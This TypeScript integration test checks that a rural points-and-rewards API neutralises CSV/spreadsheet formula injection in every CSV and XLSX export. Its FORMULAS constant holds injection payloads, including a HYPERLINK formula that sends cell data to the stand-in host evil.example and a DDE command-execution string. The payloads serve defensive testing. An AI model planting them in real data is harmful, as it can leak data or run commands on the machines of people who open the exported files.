import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { Readable } from 'node:stream';
import type { Response } from 'supertest';
import { createCountyAdmin } from '../src/users/create-county-admin.js';
import { looksLikeFormula } from '../src/common/http/spreadsheet-safe.js';
import { API, as, binary, declareNoHousehold, eventually, login, PASSWORD, uniqueCode, type Client } from './support/fixtures.js';
import { useTestApp } from './support/test-app.js';

/**
 * CSV injection (OWASP): every free-text field a person can fill — region, program, rule, household,
 * member, staff, store and goods names, memos, reasons, funding sources — holds a spreadsheet formula
 * here, and every CSV and XLSX download the API offers (found in its OpenAPI document) is read back:
 * no cell may be a formula a spreadsheet would run, and the planted text arrives as text.
 */

const FORMULAS = {
  link: '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
  sum: '+SUM(1,2)',
  at: '@SUM(1,1)',
  dde: "=cmd|' /C calc'!A0",
  minus: '-2+3+cmd|x',
  tab: '\t=1+1',
};
/** What each planted value leaves in a cell, once neutralised. */
const MARKERS = ['HYPERLINK(', 'SUM(1,2)', 'SUM(1,1)', "cmd|' /C", '-2+3+cmd', '=1+1'];

type Cells = string[];

describe('spreadsheet formulas planted in every free-text field never reach a download as formulas', () => {
  const t = useTestApp();

  it('every CSV and XLSX export of the API writes them as text', async () => {
    // The world: a county whose every name and memo is a formula.
    const made = await createCountyAdmin(t.db, {
      username: uniqueCode('inj-admin-'),
      password: PASSWORD,
      displayName: FORMULAS.link,
      countyCode: uniqueCode('INJ'),
      countyName: FORMULAS.dde,
    });
    if (!made.ok) throw new Error('county');
    const token = await login(t, (await t.db.query(`SELECT username FROM users WHERE id = $1`, [made.userId]))[0].username);
    const api: Client = as(t, { token });
    await declareNoHousehold(t, token);
    const ok = async (res: Promise<Response> | Response, status = 201) => {
      const r = await res;
      if (r.status !== status) throw new Error(`${r.status} ${JSON.stringify(r.body)}`);
      return r.body;
    };
    const countyId = made.countyId;
    const township = (await ok(api.post('/regions', { code: uniqueCode('IT'), name: FORMULAS.sum, level: 'township', parentId: countyId })))
      .id as number;
    const village = (await ok(api.post('/regions', { code: uniqueCode('IV'), name: FORMULAS.link, level: 'village', parentId: township })))
      .id as number;
    await ok(
      api.post('/users', {
        username: uniqueCode('inj-clerk-'),
        password: PASSWORD,
        displayName: FORMULAS.at,
        role: 'village_clerk',
        regionId: village,
      }),
    );
    const program = (
      await ok(
        api.post('/programs', {
          code: uniqueCode('inj-'),
          name: FORMULAS.at,
          holderType: 'household',
          regionId: countyId,
          basePoints: 100,
          pointValueFen: 100,
        }),
      )
    ).id as number;
    const rule = (
      await ok(
        api.post(`/programs/${program}/rules`, {
          code: uniqueCode('R-'),
          name: FORMULAS.dde,
          category: FORMULAS.minus,
          points: 30,
          effectiveFrom: '2026-01-01',
        }),
      )
    ).id as number;
    const penalty = (
      await ok(
        api.post(`/programs/${program}/rules`, {
          code: uniqueCode('P-'),
          name: FORMULAS.sum,
          category: FORMULAS.tab,
          points: -5,
          effectiveFrom: '2026-01-01',
        }),
      )
    ).id as number;
    const households: number[] = [];
    for (let i = 0; i < 3; i++) {
      const h = await ok(
        api.post('/households', {
          villageId: village,
          householdNo: uniqueCode('H'),
          headName: FORMULAS.link,
          address: FORMULAS.sum,
          members: [{ name: FORMULAS.at, relation: '本人' }],
        }),
      );
      households.push(h.id as number);
    }
    const [first] = households;
    const memberId = ((await ok(api.get(`/households/${first}`), 200)).members as { id: number }[])[0].id;
    await ok(
      api.post(`/programs/${program}/awards`, {
        ruleId: rule,
        holderIds: households,
        occurredOn: '2026-08-10',
        memberId: undefined,
        memo: FORMULAS.link,
      }),
    );
    await ok(
      api.post(`/programs/${program}/awards`, { ruleId: rule, holderIds: [first], occurredOn: '2026-08-11', memberId, memo: FORMULAS.dde }),
    );
    await ok(
      api.post(`/programs/${program}/deductions`, {
        ruleId: penalty,
        holderIds: [first],
        occurredOn: '2026-08-12',
        reason: FORMULAS.minus,
        memo: FORMULAS.tab,
      }),
    );

    const store = (await ok(api.post('/stores', { name: FORMULAS.sum, regionId: township, programId: program }))).id as number;
    await ok(api.post(`/stores/${store}/items`, { sku: 'OIL', name: FORMULAS.link, pointsPrice: 5, stock: 10 }));
    await ok(api.post(`/stores/${store}/stock-movements`, { sku: 'OIL', quantity: 5, reason: FORMULAS.at, fundingSource: 'donation' }));
    const sale = await ok(
      api
        .post(`/stores/${store}/redemptions`, { householdId: first, lines: [{ sku: 'OIL', quantity: 2 }] })
        .set('Idempotency-Key', uniqueCode('inj-')),
    );
    await ok(
      api.post(`/redemptions/${sale.id as string}/refund`, {
        lines: [{ lineId: (sale.lines as { id: string }[])[0].id, quantity: 1 }],
        reason: FORMULAS.sum,
      }),
    );

    const run = (
      await ok(api.post('/rankings/runs', { programId: program, regionId: countyId, period: '2026-Q3', reason: FORMULAS.link }), 202)
    ).id as string;
    await eventually(async () => ((await api.get(`/rankings/runs/${run}`)).body.status === 'completed' ? true : undefined));
    await ok(api.post(`/programs/${program}/periods/2026-Q3/close`));
    await ok(api.post(`/rankings/runs/${run}/publish`), 200);
    // 积分换项目: villages ranked in a program of their own, a budget split over the published run.
    const villages = (
      await ok(
        api.post('/programs', {
          code: uniqueCode('injv-'),
          name: FORMULAS.minus,
          holderType: 'village',
          regionId: countyId,
          basePoints: 0,
          pointValueFen: 0,
        }),
      )
    ).id as number;
    const item = (
      await ok(
        api.post(`/programs/${villages}/rules`, {
          code: uniqueCode('V-'),
          name: FORMULAS.link,
          category: FORMULAS.sum,
          points: 10,
          effectiveFrom: '2026-01-01',
        }),
      )
    ).id as number;
    const other = (await ok(api.post('/regions', { code: uniqueCode('IV'), name: FORMULAS.dde, level: 'village', parentId: township })))
      .id as number;
    await ok(
      api.post(`/programs/${villages}/awards`, { ruleId: item, holderIds: [village, other], occurredOn: '2026-08-10', memo: FORMULAS.at }),
    );
    const villageRun = (await ok(api.post('/rankings/runs', { programId: villages, regionId: countyId, period: '2026-Q3' }), 202))
      .id as string;
    await eventually(async () => ((await api.get(`/rankings/runs/${villageRun}`)).body.status === 'completed' ? true : undefined));
    await ok(api.post(`/programs/${villages}/periods/2026-Q3/close`));
    await ok(api.post(`/rankings/runs/${villageRun}/publish`), 200);
    const plan = (await ok(api.post('/allocation-plans', { runId: villageRun, budgetFen: 100000, topN: 2, method: 'equal', bottomN: 0 })))
      .id as number;

    // Every export of the API document, with what it needs to answer.
    const year = '2026';
    const saleDay = (
      (await t.db.query(`SELECT (created_at AT TIME ZONE 'Asia/Shanghai')::date::text AS d FROM redemptions WHERE id = $1`, [sale.id])) as {
        d: string;
      }[]
    )[0].d;
    const queries: Record<string, string> = {
      '/stores/{id}/reports/day': `/stores/${store}/reports/day?date=${saleDay}`,
      '/stores/{id}/reports/month': `/stores/${store}/reports/month?month=${saleDay.slice(0, 7)}`,
      '/stores/{id}/settlements/export.csv': `/stores/${store}/settlements/export.csv?`,
      '/stores/{id}/settlements/export.xlsx': `/stores/${store}/settlements/export.xlsx?`,
      '/stores/{id}/reports/stock': `/stores/${store}/reports/stock?`,
      '/rankings/runs/{id}/export.csv': `/rankings/runs/${run}/export.csv?`,
      '/rankings/runs/{id}/export.xlsx': `/rankings/runs/${run}/export.xlsx?`,
      '/allocation-plans/{id}/export.csv': `/allocation-plans/${plan}/export.csv?`,
      '/allocation-plans/{id}/export.xlsx': `/allocation-plans/${plan}/export.xlsx?`,
      '/reports/redemptions': `/reports/redemptions?regionId=${countyId}&from=2026-01&to=2026-12`,
      '/reports/participation': `/reports/participation?programId=${program}&regionId=${countyId}&period=2026-Q3`,
      '/reports/liability': `/reports/liability?programId=${program}&regionId=${countyId}`,
      '/reports/expiring': `/reports/expiring?programId=${program}&regionId=${countyId}`,
      '/reports/staff-activity': `/reports/staff-activity?programId=${program}&regionId=${countyId}&period=2026-Q3`,
      '/reports/ledger-book': `/reports/ledger-book?programId=${program}&holderId=${first}&year=${year}`,
    };
    const doc = (await t.http().get('/docs-json')).body as {
      paths: Record<string, Record<string, { responses: Record<string, { content?: Record<string, unknown> }> }>>;
    };
    const exports: { path: string; format: 'csv' | 'xlsx' }[] = [];
    for (const [path, ops] of Object.entries(doc.paths)) {
      const types = new Set(Object.values(ops.get?.responses ?? {}).flatMap((r) => Object.keys(r.content ?? {})));
      for (const format of ['csv', 'xlsx'] as const) {
        if ([...types].some((ct) => (format === 'csv' ? ct === 'text/csv' : ct.includes('spreadsheetml'))))
          exports.push({ path: path.slice(API.length), format });
      }
    }
    expect(exports.filter((e) => !(e.path in queries)).map((e) => e.path)).toEqual([]);

    const cellsOf = async (path: string, format: 'csv' | 'xlsx'): Promise<Cells> => {
      const url = path.endsWith('.csv') || path.endsWith('.xlsx') ? queries[path] : `${queries[path]}&format=${format}`;
      const res: Response = await api.get(url).buffer(true).parse(binary);
      if (res.status !== 200) throw new Error(`${url}: ${res.status} ${String(res.body)}`);
      const body = res.body as Buffer;
      if (format === 'csv') return (parse(body.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
      const book = new ExcelJS.Workbook();
      await book.xlsx.read(Readable.from([body]));
      const cells: Cells = [];
      book.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) =>
            cells.push(typeof cell.value === 'string' ? cell.value : cell.formula ? `=${cell.formula}` : JSON.stringify(cell.value)),
          ),
        ),
      );
      return cells;
    };

    const formulas: string[] = [];
    const reached: Record<string, number> = {};
    for (const { path, format } of exports) {
      const cells = await cellsOf(path, format);
      formulas.push(...cells.filter(looksLikeFormula).map((c) => `${format} ${path}: ${JSON.stringify(c)}`));
      reached[`${format} ${path}`] = cells.filter((c) => c.startsWith("'") && MARKERS.some((m) => c.includes(m))).length;
    }
    expect(formulas).toEqual([]);
    // The planted text reached each export that shows free text, as text with its apostrophe (the
    // store's month and its settlements are numbers and dates only).
    const numbersOnly = ['/stores/{id}/reports/month', '/stores/{id}/settlements/export.csv', '/stores/{id}/settlements/export.xlsx'];
    const silent = Object.entries(reached)
      .filter(([key, n]) => n === 0 && !numbersOnly.includes(key.split(' ')[1]))
      .map(([k]) => k);
    expect(silent).toEqual([]);
  }, 180_000);
});
